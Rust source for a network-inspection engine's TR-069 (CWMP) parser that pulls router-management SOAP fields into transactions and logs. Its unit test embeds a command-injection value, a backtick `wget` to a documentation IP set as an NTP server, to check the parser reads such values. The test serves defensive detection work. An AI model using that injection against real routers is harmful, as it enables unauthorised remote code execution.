//! TR-069 (CWMP): remote management of routers by SOAP over HTTP. Each message in a body of HTTP is a transaction.
//!
//! Key type: [`Message`]; fed by [`super::http`]. Broadband Forum TR-069 amendment 6, 3.4 and annex A. Suricata has no
//! TR-069.
use super::{FieldRow, Parser, Probe, ProtocolId, Record};
use crate::{
    flow::Direction,
    transaction::{FieldId, Transaction, Transactions},
};
use Direction::{ToClient, ToServer};

const fn field(direction: Direction, index: u8) -> FieldId {
    FieldId::new(ProtocolId::Cwmp, direction as u8 * 64 + index)
}
const METHOD: u8 = 0;
const ID: u8 = 1;
const MANUFACTURER: u8 = 2;
const OUI: u8 = 3;
const PRODUCT: u8 = 4;
const SERIAL: u8 = 5;
const EVENT: u8 = 6;
const URL: u8 = 7;
const FILE_TYPE: u8 = 8;
const NAME: u8 = 9;
const VALUE: u8 = 10;

/// Index of the field, its keyword, its key in the log, the element; those that may come more than once.
struct Element(u8, &'static str, &'static str, &'static [u8]);

static ELEMENTS: [Element; 10] = [
    Element(ID, "cwmp.id", "id", b"ID"),
    Element(MANUFACTURER, "cwmp.manufacturer", "manufacturer", b"Manufacturer"),
    Element(OUI, "cwmp.oui", "oui", b"OUI"),
    Element(PRODUCT, "cwmp.product_class", "product_class", b"ProductClass"),
    Element(SERIAL, "cwmp.serial_number", "serial_number", b"SerialNumber"),
    Element(EVENT, "cwmp.event", "event", b"EventCode"),
    Element(URL, "cwmp.url", "url", b"URL"),
    Element(FILE_TYPE, "cwmp.file_type", "file_type", b"FileType"),
    Element(NAME, "cwmp.parameter", "parameter", b"Name"),
    Element(VALUE, "cwmp.value", "value", b"Value"),
];

const fn rows() -> [FieldRow; 22] {
    let mut rows = [const { FieldRow::new(ToServer, field(ToServer, METHOD), "cwmp.method") }; 22];
    rows[1] = FieldRow::new(ToClient, field(ToClient, METHOD), "cwmp.method");
    let mut at = 0;
    while at < ELEMENTS.len() {
        let Element(index, keyword, ..) = ELEMENTS[at];
        rows[2 + 2 * at] = FieldRow::new(ToServer, field(ToServer, index), keyword);
        rows[3 + 2 * at] = FieldRow::new(ToClient, field(ToClient, index), keyword);
        at += 1;
    }
    rows
}
/// All fields.
pub static FIELDS: &[FieldRow] = &rows();

/// Nothing in the first bytes tells: HTTP finds the messages.
pub(super) fn probe(_direction: Direction, _bytes: &[u8]) -> Probe {
    Probe::No
}

pub(super) fn parser() -> Box<dyn Parser> {
    Box::new(CwmpParser)
}

/// What is fed is bodies, each whole.
struct CwmpParser;

impl Parser for CwmpParser {
    fn feed(&mut self, direction: Direction, bytes: &[u8], transactions: &mut Transactions) -> usize {
        if transactions.is_full() {
            return 0;
        }
        read(direction, bytes, transactions);
        bytes.len()
    }
    fn gap(&mut self, _direction: Direction, _count: u64, _transactions: &mut Transactions) {}
    fn end(&mut self, _direction: Direction, _transactions: &mut Transactions) {}
}

/// The name space of the messages, whatever their version.
const NAME_SPACE: &[u8] = b"urn:dslforum-org:cwmp-1-";
/// Elements that are read of one message.
const READ: usize = 4096;

/// Bytes of a body in which the name space is looked for.
const ENVELOPE_BYTES: usize = 4096;

/// Whether a body is a message of TR-069.
pub(super) fn is_message(body: &[u8]) -> bool {
    let start = body.trim_ascii_start();
    let envelope = start.get(..ENVELOPE_BYTES.min(start.len())).unwrap_or(start);
    start.starts_with(b"<") && envelope.windows(NAME_SPACE.len()).any(|window| window == NAME_SPACE)
}

/// Opens a transaction for a message of TR-069.
pub(super) fn read(direction: Direction, body: &[u8], transactions: &mut Transactions) {
    if !is_message(body) || transactions.is_full() {
        return;
    }
    let id = transactions.open(ProtocolId::Cwmp);
    let Some(transaction) = transactions.get_mut(id) else { return };
    let fields = &mut transaction.fields;
    let mut before: &[u8] = b"";
    for (name, text) in elements(body).take(READ) {
        // The method is the element in the body of the envelope.
        if before == b"Body" {
            fields.set(field(direction, METHOD), name);
        }
        before = name;
        let row = ELEMENTS.iter().find(|Element(.., element)| *element == name);
        if let Some(Element(index, ..)) = row.filter(|_| !text.is_empty()) {
            fields.set(field(direction, *index), unescaped(text));
        }
    }
    transaction.complete_alone(direction);
}

/// Local names of the opening tags, each with the text behind it.
fn elements(body: &[u8]) -> impl Iterator<Item = (&[u8], &[u8])> {
    body.split(|b| *b == b'<').skip(1).filter_map(|piece| {
        let end = piece.iter().position(|b| *b == b'>')?;
        let (tag, text) = piece.split_at(end);
        let name =
            tag.split(|b| b.is_ascii_whitespace() || *b == b'/').next().filter(|name| !name.is_empty())?;
        if name.starts_with(b"?") || name.starts_with(b"!") {
            return None;
        }
        let local = name.rsplit(|b| *b == b':').next().unwrap_or(name);
        Some((local, text.get(1..).unwrap_or(b"").trim_ascii()))
    })
}

/// The five entities of XML, taken back.
fn unescaped(text: &[u8]) -> Vec<u8> {
    const ENTITIES: &[(&[u8], u8)] =
        &[(b"&lt;", b'<'), (b"&gt;", b'>'), (b"&amp;", b'&'), (b"&quot;", b'"'), (b"&apos;", b'\'')];
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((first, more)) = rest.split_first() {
        let found = ENTITIES.iter().find(|(entity, _)| rest.starts_with(entity));
        match found {
            Some((entity, byte)) => {
                out.push(*byte);
                rest = rest.get(entity.len()..).unwrap_or(&[]);
            }
            None => {
                out.push(*first);
                rest = more;
            }
        }
    }
    out
}

/// The `cwmp` object of EVE.
pub fn log(transaction: &Transaction, record: &mut dyn Record) {
    let fields = &transaction.fields;
    for way in Direction::BOTH {
        let method = fields.get(field(way, METHOD));
        method.into_iter().for_each(|method| record.text("method", method));
        for Element(index, _, key, _) in &ELEMENTS {
            let all: Vec<Vec<u8>> = fields.all(field(way, *index)).map(|field| field.bytes.clone()).collect();
            match all.as_slice() {
                [] => {}
                [one] => record.text(key, one),
                _ => record.texts(key, &all),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_order_to_set_a_name_server_is_read() {
        let body =
            br#"<?xml version="1.0"?><soap:Envelope xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Header>
<cwmp:ID soap:mustUnderstand="1">7</cwmp:ID></soap:Header><soap:Body><cwmp:SetParameterValues>
<ParameterList><ParameterValueStruct><Name>InternetGatewayDevice.Time.NTPServer1</Name>
<Value>`wget http://192.0.2.1/a&amp;b`</Value></ParameterValueStruct></ParameterList>
</cwmp:SetParameterValues></soap:Body></soap:Envelope>"#;
        let mut transactions = Transactions::default();
        read(ToServer, body, &mut transactions);
        let fields = &transactions.iter().next().unwrap().fields;
        let text = |index| fields.get(field(ToServer, index)).map(String::from_utf8_lossy);
        assert_eq!(text(METHOD).as_deref(), Some("SetParameterValues"));
        assert_eq!(text(ID).as_deref(), Some("7"));
        assert_eq!(text(NAME).as_deref(), Some("InternetGatewayDevice.Time.NTPServer1"));
        assert_eq!(text(VALUE).as_deref(), Some("`wget http://192.0.2.1/a&b`"));
        for end in 0..body.len() {
            read(ToClient, &body[..end], &mut transactions);
            transactions.close(|transaction| transaction.id > 0);
        }
        read(ToClient, b"<a>no name space</a>", &mut transactions);
        assert_eq!(transactions.iter().count(), 1);
    }
}
